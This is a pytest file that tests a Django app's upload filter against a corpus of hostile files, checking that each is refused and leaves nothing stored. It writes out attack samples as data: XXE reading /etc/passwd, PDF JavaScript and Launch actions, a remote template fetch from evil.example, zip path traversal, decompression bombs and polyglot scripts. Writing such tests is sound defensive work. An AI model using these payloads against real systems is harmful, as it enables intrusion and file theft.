"""A corpus of hostile files: each is refused with a sentence, or made harmless, and nothing is left on disk
(T18–T21).
"""

import io
import os
import struct
import time
import zipfile
import zlib

import pytest
from django.core.files.storage import storages

from forms import files
from forms.errors import RefusedFile
from forms.models import Attachment
from tests.factories import forms as make

pytestmark = pytest.mark.django_db

HTML = b"<!doctype html><html><script>alert(1)</script></html>"
SVG = b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'
XML = b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>'
EXE = b"MZ" + bytes(200) + b"This program cannot be run in DOS mode"
ELF = b"\x7fELF" + bytes(200)
GIF = b"GIF89a/*" + bytes(10) + b"*/=1;alert(1)"
RELATIONS = (
    b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    b'<Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/%s" '
    b'Target="%s" TargetMode="External"/></Relationships>'
)


def relation(kind, target):
    return make.docx({"word/_rels/document.xml.rels": RELATIONS % (kind, target)})


def pdf(*objects):
    numbered = b"\n".join(b"%d 0 obj%s endobj" % (number, each) for number, each in enumerate(objects, 4))
    return make.pdf(numbered)


def hidden_in_a_stream(text):
    """A PDF whose object 5 lies compressed in an object stream, with the cross-reference stream that finds
    it.
    """
    inner = zlib.compress(b"5 0 " + text)
    stream = (
        b"4 0 obj<</Type/ObjStm/N 1/First 4/Filter/FlateDecode/Length %d>>stream\n%s\nendstream endobj\n"
        % (
            len(inner),
            inner,
        )
    )
    head = (
        b"%PDF-1.5\n1 0 obj<</Type/Catalog/Pages 2 0 R/OpenAction 5 0 R>>endobj\n"
        b"2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1>>endobj\n3 0 obj<</Type/Page/Parent 2 0 R>>endobj\n"
    )
    offsets = [0, head.index(b"1 0 obj"), head.index(b"2 0 obj"), head.index(b"3 0 obj"), len(head)]
    place = len(head) + len(stream)
    rows = b"".join(struct.pack(">BHB", 1 if n else 0, at, 0) for n, at in enumerate(offsets))
    rows += struct.pack(">BHB", 2, 4, 0) + struct.pack(">BHB", 1, place, 0)
    table = b"6 0 obj<</Type/XRef/Size 7/W[1 2 1]/Root 1 0 R/Length %d>>stream\n%s\nendstream endobj\n" % (
        len(rows),
        rows,
    )
    return head + stream + table + b"startxref\n%d\n%%%%EOF\n" % place


def many_pages(number):
    kids = b" ".join(b"%d 0 R" % each for each in range(10, 10 + number))
    pages = b"\n".join(b"%d 0 obj<</Type/Page/Parent 2 0 R>>endobj" % each for each in range(10, 10 + number))
    return (
        b"%%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n"
        b"2 0 obj<</Type/Pages/Kids[%s]/Count %d>>endobj\n"
        b"%s\ntrailer<</Root 1 0 R/Size %d>>\nstartxref\n0\n%%%%EOF\n" % (kids, number, pages, number + 10)
    )


def png_of(width, height):
    """A PNG that says it is huge and holds next to nothing."""

    def chunk(kind, data):
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    header = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + chunk(b"IHDR", header)
        + chunk(b"IDAT", zlib.compress(b""))
        + chunk(b"IEND", b"")
    )


def zipped(names, compression=zipfile.ZIP_DEFLATED):
    made = io.BytesIO()
    with zipfile.ZipFile(made, "w", compression) as archive:
        for name, content in names:
            archive.writestr(name, content)
    return made.getvalue()


def encrypted(content):
    """The same zip with each entry marked as encrypted."""
    data = bytearray(content)
    at = -1
    while (at := data.find(b"PK\x01\x02", at + 1)) >= 0:
        data[at + 8] |= 1
    return bytes(data)


MACRO_TYPES = (
    make.MAIN_PART + '<Override PartName="/x" ContentType="application/vnd.ms-word.document.macroEnabled"/>'
)

CORPUS = {
    # another kind of file under a good name
    "html as pdf": ("a.pdf", HTML),
    "html as png": ("a.png", HTML),
    "html as jpg": ("a.jpg", HTML),
    "html as docx": ("a.docx", HTML),
    "svg as png": ("a.png", SVG),
    "svg as pdf": ("a.pdf", SVG),
    "xml as docx": ("a.docx", XML),
    "exe as pdf": ("a.pdf", EXE),
    "exe as docx": ("a.docx", EXE),
    "elf as png": ("a.png", ELF),
    "gif with script as png": ("a.png", GIF),
    "gif with script as jpg": ("a.jpg", GIF),
    "png as jpg": ("a.jpg", make.picture()),
    "jpg as png": ("a.png", make.picture(kind="JPEG")),
    "pdf as docx": ("a.docx", make.pdf()),
    "docx as pdf": ("a.pdf", make.docx()),
    "docx as xlsx": ("a.xlsx", make.docx()),
    "zip as docx": ("a.docx", zipped([("a.txt", "x")])),
    "rar as docx": ("a.docx", b"Rar!\x1a\x07\x00" + bytes(100)),
    "empty": ("a.pdf", b""),
    "text as pdf": ("a.pdf", b"just text"),
    # kinds that are not taken at all
    "html": ("a.html", HTML),
    "svg": ("a.svg", SVG),
    "exe": ("a.exe", EXE),
    "zip": ("a.zip", zipped([("a.txt", "x")])),
    "macro document": ("a.docm", make.docx()),
    "old word": ("a.doc", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(512)),
    "double ending": ("a.pdf.html", make.pdf()),
    "no ending": ("pdf", make.pdf()),
    "nul in the ending": ("a.html\x00.exe", make.pdf()),
    # PDFs that act
    "pdf after html": ("a.pdf", HTML + make.pdf()),
    "pdf after a space": ("a.pdf", b" " + make.pdf()),
    "pdf script": ("a.pdf", pdf(b"<</S/JavaScript/JS(app.alert\\(1\\))>>")),
    "pdf script, name written otherwise": ("a.pdf", pdf(b"<</S/J#61vaScript/J#53(x)>>")),
    "pdf launches": ("a.pdf", pdf(b"<</S/Launch/F(calc.exe)>>")),
    "pdf with a file inside": ("a.pdf", pdf(b"<</Type/EmbeddedFile/Length 0>>")),
    "pdf with files inside": ("a.pdf", pdf(b"<</Names<</EmbeddedFiles 5 0 R>>>>")),
    "pdf with rich media": ("a.pdf", pdf(b"<</Subtype/RichMedia>>")),
    "pdf script in a compressed object": ("a.pdf", hidden_in_a_stream(b"<</S/JavaScript/JS(app.alert)>>")),
    "pdf short script in a compressed object": ("a.pdf", hidden_in_a_stream(b"<</S/#4aavaScript>>")),
    "pdf of 10,000 pages": ("a.pdf", many_pages(10_000)),
    "pdf of 501 pages": ("a.pdf", many_pages(501)),
    "pdf cut off": ("a.pdf", make.pdf()[:60]),
    "pdf without pages": (
        "a.pdf",
        b"%PDF-1.4\n1 0 obj<</Type/Catalog>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF",
    ),
    # pictures that are too much
    "picture of 50,000 by 50,000": ("a.png", png_of(50_000, 50_000)),
    "picture of 5,001 by 5,000": ("a.png", png_of(5_001, 5_000)),
    "picture cut off": ("a.jpg", make.picture(size=(64, 64), kind="JPEG")[:-200]),
    # documents that act or unpack
    "document that unpacks to 300 MB": ("a.docx", make.docx({"word/big.xml": b"\x00" * 300 * 2**20})),
    "document of 2,001 parts": ("a.docx", make.docx({f"word/{n}.xml": b"" for n in range(2_001)})),
    "document packed 1:1000": ("a.docx", make.docx({"word/big.xml": b"\x00" * 20 * 2**20})),
    "document with a macro": ("a.docx", make.docx({"word/vbaProject.bin": b"x"})),
    "document with a macro type": ("a.docx", make.docx(types=MACRO_TYPES)),
    "document with an object": ("a.docx", make.docx({"word/embeddings/oleObject1.bin": b"x"})),
    "document with a control": ("a.docx", make.docx({"word/activeX/activeX1.xml": b"<x/>"})),
    "document with a program inside": ("a.docx", make.docx({"word/media/run.exe": EXE})),
    "document with a document with a macro": (
        "a.docx",
        make.docx({"word/embeddings/b.docx": make.docx({"word/vbaProject.bin": b"x"})}),
    ),
    "document that fetches a template": (
        "a.docx",
        relation(b"attachedTemplate", b"http://evil.example/t.dotm"),
    ),
    "document that fetches a picture": ("a.docx", relation(b"image", b"http://evil.example/t.png")),
    "document that fetches an object": ("a.docx", relation(b"oleObject", b"http://evil.example/t")),
    "document that links to a file": ("a.docx", relation(b"hyperlink", b"file:///c:/windows/calc.exe")),
    "document that links to a script": ("a.docx", relation(b"hyperlink", b"javascript:alert(1)")),
    "document with outside entities": ("a.docx", make.docx({"word/_rels/x.rels": XML})),
    "document that leaves its folder": ("a.docx", make.docx({"../../evil.xml": b"x"})),
    "document with one part twice": ("a.docx", make.docx({"WORD/document.xml": b"<other/>"})),
    "document locked": ("a.docx", encrypted(make.docx())),
    "document after html": ("a.docx", HTML + make.docx()),
    "document cut off": ("a.docx", make.docx()[:-30]),
}


def bytes_on_disk():
    return sum(len(here) for _folder, _folders, here in os.walk(storages["private"].path("attachments")))


@pytest.mark.parametrize("which", CORPUS)
def test_a_hostile_file_is_refused_and_leaves_nothing(jo, which):
    name, content = CORPUS[which]
    before, began = bytes_on_disk(), time.process_time()
    with pytest.raises(RefusedFile) as refused:
        files.accept(make.upload(name, content), owner=jo)
    reason = refused.value.reason
    assert reason.endswith(".")
    assert "\x00" not in reason
    assert (Attachment.objects.count(), bytes_on_disk()) == (0, before)
    assert time.process_time() - began < 60  # a bomb would take minutes


def test_the_corpus_is_large_enough():
    assert len(CORPUS) >= 40


@pytest.mark.parametrize("kind", ["PNG", "JPEG"])
def test_a_script_behind_a_pictures_pixels_is_gone(jo, kind):
    attachment = files.accept(make.upload(f"a.{kind.lower()}", make.picture(kind=kind) + HTML), owner=jo)
    assert b"script" not in b"".join(files.respond(attachment).streaming_content)


@pytest.mark.parametrize(
    "content",
    [
        relation(b"hyperlink", b"https://www.gov.uk/"),
        relation(b"hyperlink", b"mailto:office@provider.example"),
        make.docx({"word/embeddings/table.docx": make.docx()}),
        make.docx({"word/media/blank.xml": b" " * 500_000}),
        make.docx({"word/printerSettings/printerSettings1.bin": b"x"}),
    ],
)
def test_ordinary_documents_are_taken(jo, content):
    assert files.accept(make.upload("a.docx", content), owner=jo).name == "a.docx"


@pytest.mark.parametrize(
    "content",
    [
        pdf(b"<</S/URI/URI(https://www.gov.uk/)>>"),
        pdf(b"<</S/GoTo/D[3 0 R/Fit]>>"),
        hidden_in_a_stream(b"<</S/GoTo/D(x)>>"),
        many_pages(500),
    ],
)
def test_ordinary_pdfs_are_taken(jo, content):
    assert files.accept(make.upload("a.pdf", content), owner=jo).name == "a.pdf"
